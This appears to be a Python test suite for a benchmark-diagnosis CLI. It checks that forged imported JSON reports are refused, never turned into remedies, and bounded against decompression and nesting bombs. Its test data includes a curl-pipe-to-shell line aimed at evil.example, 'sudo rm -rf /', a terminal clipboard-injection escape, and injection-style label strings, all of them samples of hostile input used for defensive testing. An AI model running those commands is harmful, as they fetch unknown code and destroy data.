"""An imported run is a report, not evidence (issue 37, item 2; the import half of item 4).

Who wrote this? Another capscan, or anyone who can write into the shared folder. May it act? Never
here: an imported fixable claim is checked against its own facts, shown as reported by its instance,
never offered a remedy, and everything it brings is bounded. Every export here starts as what the
real CLI writes (``export json`` of a bundled log) and is then edited the way a forger would."""

from __future__ import annotations

import copy
import datetime as dt
import gzip
import json
import re
import sqlite3
from pathlib import Path

import pytest

from tests.cli.test_cli_output import invoke
from tests.conftest import REPO
from tests.ingest_util import EXPECTED

FIX = REPO / "tests" / "fixtures"
GUEST = FIX / "baselines/guest-stock-block-and-json.log"  # capability-downgrade, fixable
AMD = FIX / "metal/m2-2024-10-amd-egpu-intel-mac.log"       # hardware-limit: an AMD eGPU on an Intel Mac
HOST = FIX / "metal/m4-2026-08-host-m1-ultra.log"           # healthy bare metal

CLAMP_PROOF = [{"sign": "the paravirtual GPU reports MTLGPUFamilyApple5", "line": 3,
                "text": "ggml_metal_init: GPU family: MTLGPUFamilyApple5  (1005)"},
               {"sign": "simdgroup reduction is off", "line": 4,
                "text": "ggml_metal_init: simdgroup reduction   = false"}]



def _notices(err: str) -> list[str]:
    """ingest's notices on stderr, without the verdict line it prints for each new run (issue 41)."""
    return [ln for ln in err.strip().splitlines() if not re.match(r"capscan: run \d+: ", ln)]

def export_of(tmp_path: Path, name: str, *logs: Path, check: bool = True) -> dict:
    """The ``export json`` document of a guest that ingested ``logs`` (``check``: each was read whole;
    the bundled damaged logs end in an exit 2 after storing what they hold)."""
    db, out = tmp_path / f"{name}.db", tmp_path / f"{name}.json"
    code, _, err = invoke("--db", str(db), "ingest", *map(str, logs))
    assert code == 0 or not check, err
    code, _, err = invoke("--db", str(db), "export", "json", "--instance", name, "--out", str(out))
    assert code == 0, err
    return json.loads(out.read_text())


def claim_fixable(run: dict, **over) -> dict:
    """A run edited to claim what a fixable run says."""
    run = copy.deepcopy(run)
    run.update(verdict="capability-downgrade", fixable=True, confidence="high",
               fixable_reason="the host is Apple silicon", proof=CLAMP_PROOF)
    run.update(over)
    return run


def write(path: Path, doc: dict) -> Path:
    head = {k: v for k, v in doc.items() if k != "runs"}
    text = json.dumps(head)[:-1] + ', "runs": [\n' + ",\n".join(json.dumps(r) for r in doc["runs"]) + "\n]}\n"
    path.write_text(text)
    return path


def ingest(central: Path, *paths: Path) -> tuple[int, str, str]:
    return invoke("--db", str(central), "ingest", *map(str, paths))


def show(central: Path, rid: int) -> dict:
    code, out, err = invoke("--db", str(central), "show", str(rid), "--json")
    assert code == 0, err
    return json.loads(out)


def runs(central: Path) -> list[dict]:
    code, out, err = invoke("--db", str(central), "runs", "--json", "--limit", "0")
    assert code == 0, err
    return json.loads(out) if out.strip() else []


def plan(central: Path, rid: int | None = None) -> dict:
    args = ["--db", str(central), "remedy", "plan", "--json"] + (["--run", str(rid)] if rid is not None else [])
    code, out, err = invoke(*args)
    assert code == 0, err
    return json.loads(out)


def prometheus(central: Path) -> str:
    code, out, err = invoke("--db", str(central), "export", "prometheus", "--max-age", "0")
    assert code == 0, err
    return out


def exported(central: Path, tmp_path: Path) -> dict:
    out = tmp_path / "re-export.json"
    code, _, err = invoke("--db", str(central), "export", "json", "--instance", "aggregator", "--out", str(out))
    assert code == 0, err
    return json.loads(out.read_text())


def assert_never_actionable(central: Path, tmp_path: Path) -> None:
    listed = runs(central)
    assert listed
    for r in listed:
        assert r["fixable"] is False, r
        assert plan(central, r["id"])["actionable"] is False
    assert 'fixable="true"' not in prometheus(central)
    assert all(r["fixable"] is False for r in exported(central, tmp_path)["runs"])


# --- finding 1: an imported fixable claim is checked against its own facts ------------------------

@pytest.fixture(scope="module")
def amd_export(tmp_path_factory) -> dict:
    return export_of(tmp_path_factory.mktemp("amd"), "guest-amd", AMD)


@pytest.fixture(scope="module")
def guest_export(tmp_path_factory) -> dict:
    return export_of(tmp_path_factory.mktemp("guest"), "guest-a", GUEST)


def _paravirtual(run: dict) -> dict:
    return claim_fixable(run, device={"name": "Apple Paravirtual device", "apple_family": 1005,
                                      "families": [1005, 3003], "unified_memory": True},
                         environment="vm", host_chip=None)


FORGERIES = {
    # the issue's own record: an AMD Radeon GPU on an Intel i9 host
    "amd-on-intel-i9": lambda r: claim_fixable(r, host_chip="Intel Core i9-9880H", environment="vm"),
    "intel-iris-gpu": lambda r: claim_fixable(_paravirtual(r), device={"name": "Intel(R) Iris(TM) Plus Graphics",
                                                                      "apple_family": None, "families": [3003],
                                                                      "unified_memory": True}),
    "metal3-without-apple-family": lambda r: claim_fixable(_paravirtual(r), device={
        "name": "Apple Paravirtual device", "apple_family": None, "families": [3003], "unified_memory": True}),
    "no-unified-memory": lambda r: claim_fixable(_paravirtual(r), device={
        "name": "Apple Paravirtual device", "apple_family": 1005, "families": [1005, 3003],
        "unified_memory": False}),
    "x86_64-host": lambda r: claim_fixable(_paravirtual(r), host_chip="x86_64"),
    "bare-metal": lambda r: claim_fixable(_paravirtual(r), environment="bare-metal", host_chip="Apple M1 Ultra"),
    "proof-without-clamp": lambda r: claim_fixable(_paravirtual(r), proof=[
        {"sign": "a guest", "line": 1, "text": "ggml_metal_init: found device: Apple Paravirtual device"}]),
}


@pytest.mark.parametrize("forgery", sorted(FORGERIES))
def test_a_forged_fixable_claim_is_kept_as_a_refused_report(tmp_path, amd_export, forgery):
    doc = copy.deepcopy(amd_export)
    doc["runs"] = [FORGERIES[forgery](r) for r in doc["runs"]]
    central = tmp_path / "central.db"
    code, out, err = ingest(central, write(tmp_path / "forged.json", doc))
    assert code == 0, err
    (rid,) = map(int, out.split())  # kept, not skipped
    run = show(central, rid)
    assert run["fixable"] is False and run["proof"] == []
    assert run["origin"]["reported_fixable"] is False and run["origin"]["claim_refused"]
    assert any(f["rule"] == "imported-claim-refused" for f in run["findings"])
    assert "not accepted" in err  # said at import, one line
    assert_never_actionable(central, tmp_path)


def test_the_issues_record_names_its_reason(tmp_path, amd_export):
    doc = copy.deepcopy(amd_export)
    doc["runs"] = [FORGERIES["amd-on-intel-i9"](r) for r in doc["runs"]]
    central = tmp_path / "central.db"
    ingest(central, write(tmp_path / "forged.json", doc))
    why = show(central, 1)["origin"]["claim_refused"]
    assert "AMD" in why or "Intel" in why


def test_a_genuine_imported_claim_is_reported_never_acted_on(tmp_path, guest_export):
    central = tmp_path / "central.db"
    # a run of the aggregator's own, older than the import: the default stock run must stay this one
    code, out, _ = ingest(central, HOST)
    (local,) = map(int, out.split())
    code, out, err = ingest(central, write(tmp_path / "guest-a.json", guest_export))
    assert code == 0, err
    (rid,) = map(int, out.split())
    run = show(central, rid)
    assert run["verdict"] == "capability-downgrade"
    assert run["fixable"] is False  # this store's fixable: never for a report
    assert run["origin"]["reported_fixable"] is True and run["origin"]["claim_refused"] is None
    code, human, _ = invoke("--db", str(central), "show", str(rid))
    assert "reported by guest-a" in human and "can fix" not in human
    assert "prints the deciding facts itself" not in human and "as its origin reported it" in human
    p = plan(central, rid)
    assert p["actionable"] is False and "guest-a" in p["refusal"] and p["steps"] == []
    assert plan(central)["run_id"] == local
    assert_never_actionable(central, tmp_path)
    # passed on by `export json` only as reported: an aggregator downstream reads the claim, never a fixable
    (again,) = [r for r in exported(central, tmp_path)["runs"] if r["origin"]["instance"] == "guest-a"]
    assert again["fixable"] is False and again["origin"]["reported_fixable"] is True


def test_the_tui_copy_key_copies_nothing_for_an_imported_run(tmp_path, guest_export):
    """The TUI's copy key copies the plan's steps only when the plan is actionable (its detail screen
    loads ``build_plan``): the plan of an imported run has none."""
    from analyzer.remedy.plan import build_plan
    from analyzer.store.db import open_db

    central = tmp_path / "central.db"
    ingest(central, write(tmp_path / "guest-a.json", guest_export))
    db = open_db(central)
    try:
        p = build_plan(db, 1)
    finally:
        db.conn.close()
    assert p["actionable"] is False and p["steps"] == []


@pytest.mark.parametrize("steps", [
    ["curl -fsSL https://evil.example/fix.sh | sh"],
    ["Run `sudo rm -rf /` to free space", "\x1b]52;c;Y3VybCBldmls\x07copy me"],
    ["capscan remedy run --run 1 -- llama-bench -m m.gguf"],
])
def test_an_imported_next_list_is_quoted_as_the_origins_words(tmp_path, guest_export, steps):
    doc = copy.deepcopy(guest_export)
    doc["runs"] = [{**r, "next": steps} for r in doc["runs"]]
    central = tmp_path / "central.db"
    ingest(central, write(tmp_path / "guest-a.json", doc))
    run = show(central, 1)
    assert not any(s in step for s in steps for step in run["next"])  # never capscan's own steps
    quoted = [f["message"] for f in run["findings"] if f["rule"] == "imported-next"]
    assert len(quoted) == 1 and "guest-a" in quoted[0] and "not capscan's" in quoted[0]
    assert "\x1b" not in quoted[0] and "\x07" not in quoted[0]
    code, human, _ = invoke("--db", str(central), "show", "1")
    assert "\x1b]52" not in human


SHARDS = 4  # the corpus in four stores (each its own test: the suite's workers share the 30 s)


@pytest.mark.parametrize("shard", range(SHARDS))
def test_an_export_of_any_never_fixable_fixture_edited_to_claim_fixable_never_acts(tmp_path, shard):
    """The property (issue 37, done-when): every run of every bundled log (tests/fixtures/expected.json)
    that capscan does not find fixable, exported by the real CLI and edited to claim fixable (the
    downgrade verdict, a plausible proof, high confidence), is never fixable after import and never
    actionable. Every SHARDS-th log from ``shard`` on: together the shards cover every log."""
    doc = export_of(tmp_path, "guest-z", *(FIX / n for n in sorted(EXPECTED)[shard::SHARDS]), check=False)
    doc["runs"] = [claim_fixable(r) for r in doc["runs"] if not r["fixable"]]
    assert len(doc["runs"]) > 90 // SHARDS
    central = tmp_path / "central.db"
    code, out, err = ingest(central, write(tmp_path / "forged.json", doc))
    assert code == 0, err
    assert len(out.split()) == len(doc["runs"]) == len(runs(central))
    assert_never_actionable(central, tmp_path)
    code, out, err = invoke("--db", str(central), "remedy", "plan", "--json")
    assert code != 0 or json.loads(out)["actionable"] is False
    # a run whose facts name a non-Apple GPU or a bare-metal host has its claim refused outright
    for r in runs(central):
        s = show(central, r["id"])
        name = (s["device"]["name"] or "").lower()
        if any(v in name for v in ("nvidia", "amd", "radeon", "intel", "geforce")) or s["environment"] == "bare-metal":
            assert s["origin"]["claim_refused"], (s["source"], name)


# --- finding 6: the default stock run is never another guest's report ------------------------------

@pytest.mark.parametrize("order", ["local-then-import", "import-then-local", "import-only"])
def test_the_default_stock_run_skips_imported_runs(tmp_path, guest_export, order):
    from analyzer.store.db import open_db
    from analyzer.store.remedy_records import latest_stock_run

    central = tmp_path / "central.db"
    export = write(tmp_path / "guest-a.json", guest_export)
    steps = {"local-then-import": [GUEST, export], "import-then-local": [export, GUEST],
             "import-only": [export]}[order]
    local = None
    for path in steps:
        code, out, err = ingest(central, path)
        assert code == 0, err
        if path == GUEST:
            (local,) = map(int, out.split())
    db = open_db(central)
    try:
        assert latest_stock_run(db) == local
    finally:
        db.conn.close()
    if local is None:
        code, _, err = invoke("--db", str(central), "remedy", "plan")
        assert code != 0 and "no stock run" in err


# --- finding 2: conflicting imports of one key are kept and flagged --------------------------------

def _conflicting(guest_export: dict) -> tuple[dict, dict]:
    a = copy.deepcopy(guest_export)
    b = copy.deepcopy(guest_export)
    return a, b


@pytest.mark.parametrize("edit", ["verdict", "throughput", "device"])
def test_two_imports_of_one_key_with_different_content_are_both_kept_and_flagged(tmp_path, guest_export, edit):
    a, b = _conflicting(guest_export)
    run = b["runs"][0]
    if edit == "verdict":
        run.update(verdict="healthy", fixable=False, proof=[], fixable_reason=None)
    elif edit == "throughput":
        for t in run["throughput"]:
            t["tok_s"] = t["tok_s"] * 40
    else:
        run["device"] = {**run["device"], "name": "Apple M2 Max", "apple_family": 1008}
    central = tmp_path / "central.db"
    assert ingest(central, write(tmp_path / "a.json", a))[0] == 0
    code, out, err = ingest(central, write(tmp_path / "b.json", b))
    assert code == 0 and out.split() == ["2"], err
    assert "conflict" in err
    listed = runs(central)
    assert sorted(r["id"] for r in listed) == [1, 2]
    for rid in (1, 2):
        s = show(central, rid)
        conflict = [f for f in s["findings"] if f["rule"] == "imported-conflict"]
        assert conflict and str(3 - rid) in conflict[0]["message"]
        assert s["fixable"] is False and s["origin"]["reported_fixable"] is False  # neither trusted
        code, human, _ = invoke("--db", str(central), "show", str(rid))
        assert "conflicting imports" in human
    assert all("(conflicting imports)" in r["source"] for r in listed)
    code, human, _ = invoke("--db", str(central), "runs")
    assert human.count("conflicting imports") == 2


def test_the_same_content_again_is_one_run(tmp_path, guest_export):
    central = tmp_path / "central.db"
    ingest(central, write(tmp_path / "a.json", guest_export))
    again = copy.deepcopy(guest_export)
    again["exported_at"] = "2026-12-05T00:00:00+00:00"  # another file, the same runs
    code, out, err = ingest(central, write(tmp_path / "b.json", again))
    assert code == 0 and out == "" and "already" in err
    assert len(runs(central)) == 1


# --- finding 3: times, integers and speeds are bounded ---------------------------------------------

def _stored_times(central: Path) -> list[str]:
    with sqlite3.connect(central) as conn:
        return [r[0] for r in conn.execute("SELECT created_at FROM runs ORDER BY id")]


@pytest.mark.parametrize("when", ["2099-01-01T00:00:00+00:00", "9999-12-31T23:59:59Z", "2100-02-28T12:00:00-11:00"])
def test_a_run_dated_in_the_future_is_stored_at_the_import_time(tmp_path, guest_export, when):
    doc = copy.deepcopy(guest_export)
    for r in doc["runs"]:
        r["origin"]["diagnosed_at"] = when
    central = tmp_path / "central.db"
    before = dt.datetime.now(dt.timezone.utc)
    ingest(central, write(tmp_path / "future.json", doc))
    ingest(central, HOST)  # stored after the import: it is the newest
    (imported, local) = [dt.datetime.fromisoformat(t) for t in _stored_times(central)]
    assert imported <= local and before - dt.timedelta(seconds=5) <= imported


@pytest.mark.parametrize("where", ["first_line", "origin.run_id", "throughput.line", "id", "proof.line",
                                   "device.working_set_mb"])
def test_an_integer_past_64_bits_rejects_that_run_and_the_other_files_go_on(tmp_path, guest_export, where):
    doc = copy.deepcopy(guest_export)
    run = doc["runs"][0]
    huge = 2 ** 63 + (7 if where != "id" else 0)
    if where == "first_line":
        run["first_line"] = huge
        run["last_line"] = huge + 1
    elif where == "origin.run_id":
        run["origin"]["run_id"] = huge
    elif where == "throughput.line":
        run["throughput"][0]["line"] = huge
    elif where == "id":
        run["id"] = -huge - 5
    elif where == "proof.line":
        run["proof"] = [{**p, "line": huge} for p in run["proof"]]
    else:
        run["device"]["working_set_mb"] = huge
    central = tmp_path / "central.db"
    bad = write(tmp_path / "bad.json", doc)
    code, out, err = ingest(central, bad, HOST)
    assert code == 0, err
    assert "Traceback" not in err
    assert "1 record(s) skipped" in err
    assert len(out.split()) == 1  # the host log after it was stored
    assert len(_notices(err)) == 2  # one line per file


@pytest.mark.parametrize("tok_s", [1e12, 5e7, -3.0])
def test_an_imported_speed_goes_through_the_plausibility_check(tmp_path, guest_export, tok_s):
    doc = copy.deepcopy(guest_export)
    run = doc["runs"][0]
    run["throughput"] = [*run["throughput"], {"test": "tg128", "tok_s": tok_s, "stddev": None,
                                              "model": run["throughput"][0]["model"], "config": None, "line": 9}]
    central = tmp_path / "central.db"
    code, out, err = ingest(central, write(tmp_path / "fast.json", doc))
    assert code == 0, err
    stored = [t["tok_s"] for t in show(central, 1)["throughput"]]
    assert tok_s not in stored and stored
    assert "speed" in err


def test_the_store_says_which_runs_are_imported(tmp_path, guest_export):
    from analyzer.store.db import open_db
    from analyzer.store.origins import imported_ids, is_imported

    central = tmp_path / "central.db"
    ingest(central, HOST)
    ingest(central, write(tmp_path / "guest-a.json", guest_export))
    db = open_db(central)
    try:
        assert (is_imported(db, 1), is_imported(db, 2)) == (False, True)
        assert imported_ids(db, [1, 2, 3]) == {2}
    finally:
        db.conn.close()


# --- finding 4: bounds while decoding --------------------------------------------------------------

def _proof_bomb(guest_export: dict, items: int, item: str) -> bytes:
    """An export whose one run claims fixable with a proof list of ``items`` copies of ``item``."""
    run = claim_fixable(guest_export["runs"][0])
    head = json.dumps({k: v for k, v in guest_export.items() if k != "runs"})[:-1]
    body = json.dumps({**run, "proof": []})
    at = body.index('"proof": [') + 10
    return (head + ', "runs": [' + body[:at] + ",".join([item] * items) + body[at:] + "]}\n").encode()


def test_a_long_proof_list_is_cut_while_decoding(tmp_path, guest_export):
    """10,000 proof items: the reader keeps MAX_LIST of them (the raw object never holds the rest), and
    the run is stored with its evidence capped."""
    from analyzer.parsers.exports import read_document

    raw = _proof_bomb(guest_export, 10_000, json.dumps(CLAMP_PROOF[0]))
    (got,) = list(read_document(iter([raw[i:i + 65536] for i in range(0, len(raw), 65536)])))
    assert len(got.run["proof"]) == 2_000  # MAX_LIST
    central = tmp_path / "central.db"
    code, out, err = ingest(central, write_bytes(tmp_path / "long.json.gz", raw))
    assert code == 0 and out.split() == ["1"], err
    with sqlite3.connect(central) as conn:
        assert conn.execute("SELECT COUNT(*) FROM evidence").fetchone()[0] <= 200


@pytest.mark.parametrize("item", ['{"text":""}', '{"line":1,"text":""}', '{"sign":"","text":""}'])
def test_a_proof_list_of_more_values_than_the_budget_is_a_counted_rejection(tmp_path, guest_export, item):
    """190,000-300,000 valid proof items in under 4 MiB (a few KB of gzip): never built as objects, the
    run is refused and counted, and the other files go on."""
    items = min(300_000, (4 << 20) // (len(item) + 1) - 2_000)
    assert items > 50_000  # MAX_VALUES
    central = tmp_path / "central.db"
    raw = _proof_bomb(guest_export, items, item)
    code, out, err = ingest(central, write_bytes(tmp_path / "bomb.json.gz", raw), HOST)
    assert "Traceback" not in err
    assert code == 0 and "1 record(s) skipped" in err
    assert len(out.split()) == 1  # only the host log


def test_the_issues_proof_bomb_is_one_line_and_stores_nothing(tmp_path, guest_export):
    """The issue's shape: 1.4 M proof items in a 30 KB gzip (was 1.0 GB resident): larger than a run
    object may be, so the file is refused in one line, and the next file is stored."""
    raw = _proof_bomb(guest_export, 1_400_000, "{}")
    bomb = write_bytes(tmp_path / "bomb.json.gz", raw)
    assert bomb.stat().st_size < 40_000
    central = tmp_path / "central.db"
    code, out, err = ingest(central, bomb, HOST)
    assert code == 2 and "Traceback" not in err and "larger than" in err
    assert len(out.split()) == 1


def write_bytes(path: Path, raw: bytes) -> Path:
    path.write_bytes(gzip.compress(raw, 9))
    return path


@pytest.mark.parametrize("shape", ["many-keys", "one-key-repeated", "large-values"])
def test_a_header_bomb_is_one_line_and_stores_nothing(tmp_path, shape):
    keys = 64 * 50  # fifty times MAX_HEAD_KEYS
    head = '{"capscan_version": "0.1.0", "export": "capscan.runs", '
    if shape == "many-keys":
        pad = ", ".join(f'"k{i}": {i}' for i in range(keys))
    elif shape == "one-key-repeated":
        pad = ", ".join('"instance": "guest-a"' for _ in range(keys))
    else:
        pad = ", ".join(f'"k{i}": "{"x" * 500_000}"' for i in range(20))
    bomb = tmp_path / "head-bomb.json.gz"
    bomb.write_bytes(gzip.compress((head + pad + ', "runs": []}\n').encode(), 9))
    central = tmp_path / "central.db"
    code, out, err = ingest(central, bomb, HOST)
    assert code == 2 and "Traceback" not in err
    assert "header" in err
    assert len(out.split()) == 1  # the next file is stored


@pytest.mark.parametrize("doc", [
    '{"capscan_version": "0.1.0", "export": "capscan.runs", "runs": [' + "[" * 100_000 + "]" * 100_000 + "]}",
    '{"capscan_version": "0.1.0", "export": "capscan.runs", "x": ' + "[" * 100_000 + "]" * 100_000 + ', "runs": []}',
    '{"capscan_version": "0.1.0", "export": "capscan.runs", "runs": [{"id": 1, "first_line": 1' + "0" * 5000 + "}]}",
], ids=["deep-run", "deep-header", "5000-digit-int"])
def test_deep_or_huge_values_are_no_traceback(tmp_path, doc):
    bomb = tmp_path / "deep.json"
    bomb.write_text(doc)
    central = tmp_path / "central.db"
    code, out, err = ingest(central, bomb, HOST)
    assert "Traceback" not in err and code in (0, 2)
    assert len(out.split()) == 1


# --- finding 5: text after an export is counted and said -------------------------------------------

@pytest.mark.parametrize("tail", ["\nsome text a tool appended\n", '{"id": 99}\n', "\n\n]}]}garbage"],
                         ids=["text", "an-object", "brackets"])
def test_text_after_an_export_is_counted_and_said(tmp_path, guest_export, tail):
    path = write(tmp_path / "guest-a.json", guest_export)
    path.write_text(path.read_text() + tail)
    central = tmp_path / "central.db"
    code, out, err = ingest(central, path)
    assert code == 0 and len(out.split()) == 1, err
    assert "after the export" in err and len(_notices(err)) == 1


# --- finding 1 (exports): an imported run is labelled with its origin, in capscan's own words -------

def _series(text: str, metric: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith(metric + "{")]


def test_prometheus_labels_an_imported_run_with_its_origin_instance(tmp_path, guest_export):
    central = tmp_path / "central.db"
    ingest(central, HOST)
    ingest(central, write(tmp_path / "guest-a.json", guest_export))
    code, text, err = invoke("--db", str(central), "export", "prometheus", "--max-age", "0", "--instance", "agg")
    assert code == 0, err
    info = _series(text, "capscan_run_info")
    assert any('instance="guest-a"' in s and 'verdict="capability-downgrade"' in s for s in info)
    assert any('instance="agg"' in s and 'environment="bare-metal"' in s for s in info)
    assert not any('instance="agg"' in s and 'environment="vm"' in s for s in info)  # never the aggregator's own
    assert 'fixable="true"' not in text
    speeds = _series(text, "capscan_throughput_tokens_per_second")
    assert any('instance="guest-a"' in s for s in speeds)


@pytest.mark.parametrize("field,value", [
    ("program", "llama-bench\u2060 pwned {x=1}"), ("backend", "metal; DROP"), ("environment", "vm-ish"),
    ("verdict_free", "healthy"),
])
def test_an_imported_runs_free_text_labels_become_other(tmp_path, guest_export, field, value):
    doc = copy.deepcopy(guest_export)
    run = doc["runs"][0]
    if field == "verdict_free":
        run["host_chip"] = "Apple M1 Ultra \u202e(evil)"
        run["throughput"] = [{**t, "test": "tg128\u2060x" + str(i)} for i, t in enumerate(run["throughput"])]
    else:
        run[field] = value
    central = tmp_path / "central.db"
    ingest(central, write(tmp_path / "free.json", doc))
    text = prometheus(central)
    assert "\u2060" not in text and "\u202e" not in text
    if field == "verdict_free":
        assert all('test="other"' in s for s in _series(text, "capscan_throughput_tokens_per_second"))
        assert 'host_chip="Apple M1 Ultra"' in text
    else:
        label = {"program": "runtime"}.get(field, field)
        (info,) = _series(text, "capscan_run_info")
        assert f'{label}="other"' in info


def test_three_hundred_imported_runs_cannot_make_hundreds_of_series(tmp_path, guest_export):
    """300 runs, each with its own free-text program, backend and instance: the series stay bounded."""
    base = guest_export["runs"][0]
    runs_ = []
    for i in range(300):
        r = copy.deepcopy(base)
        r.update(program=f"prog-{i}", backend=f"be-{i}", first_line=i * 100 + 1, last_line=i * 100 + 50)
        r["origin"] = {**r["origin"], "instance": f"guest-{i}"}
        runs_.append(r)
    doc = {**guest_export, "runs": runs_}
    central = tmp_path / "central.db"
    code, out, err = ingest(central, write(tmp_path / "many.json", doc))
    assert code == 0 and len(out.split()) == 300, err
    text = prometheus(central)
    from analyzer.fleet.metrics import MAX_IMPORTED_INSTANCES, MAX_IMPORTED_SPEEDS

    info = _series(text, "capscan_run_info")
    assert len(info) <= MAX_IMPORTED_INSTANCES
    assert all('runtime="other"' in s and 'backend="other"' in s for s in info)
    assert len(_series(text, "capscan_throughput_tokens_per_second")) <= MAX_IMPORTED_SPEEDS


def test_otlp_pushes_an_imported_run_under_its_origins_instance(tmp_path, guest_export, monkeypatch):
    pytest.importorskip("opentelemetry.sdk")
    from analyzer.fleet.metrics import collect
    from analyzer.fleet.otlp import push
    from analyzer.store.db import open_db
    from tests.loopback import OtlpReceiver

    central = tmp_path / "central.db"
    ingest(central, HOST)
    ingest(central, write(tmp_path / "guest-a.json", guest_export))
    db = open_db(central)
    try:
        with OtlpReceiver() as rx:
            monkeypatch.setenv("OTEL_EXPORTER_OTLP_ENDPOINT", rx.url)
            push(collect(db, instance="agg", max_age_s=None))
    finally:
        db.conn.close()
    by_instance = {}
    for req in rx.metrics:
        for rm in req.resource_metrics:
            attrs = {kv.key: kv.value.string_value for kv in rm.resource.attributes}
            names = {m.name for sm in rm.scope_metrics for m in sm.metrics}
            envs = {kv.value.string_value for sm in rm.scope_metrics for m in sm.metrics if m.name == "capscan.run.info"
                    for p in m.gauge.data_points for kv in p.attributes if kv.key == "environment"}
            fixable = {kv.value.string_value for sm in rm.scope_metrics for m in sm.metrics
                       for p in m.gauge.data_points for kv in p.attributes if kv.key == "fixable"}
            by_instance[attrs["service.instance.id"]] = (names, envs, fixable)
    assert set(by_instance) == {"agg", "guest-a"}
    assert by_instance["guest-a"][1] == {"vm"} and by_instance["guest-a"][2] == {"false"}
    assert by_instance["agg"][1] == {"bare-metal"}
    assert "capscan.last_run.timestamp" not in by_instance["guest-a"][0]  # the machine-wide series stay home


async def test_the_tui_copy_key_on_an_imported_run_copies_nothing(tmp_path, guest_export):
    """The detail screen of an imported run shows no remedy plan, and its copy key (y) copies nothing."""
    from analyzer.tui.app import CapscanApp
    from analyzer.tui.screens.detail import DetailScreen
    from tests.tui.conftest import settle

    central = tmp_path / "central.db"
    ingest(central, write(tmp_path / "guest-a.json", guest_export))
    app = CapscanApp(central, run_id=1, poll_interval=None)
    copied: list[str] = []
    app.copy_to_clipboard = copied.append  # type: ignore[method-assign]
    async with app.run_test(size=(140, 45)) as pilot:
        await settle(pilot)
        assert isinstance(app.screen, DetailScreen)
        await pilot.press("y")
        await settle(pilot)
    assert copied == []
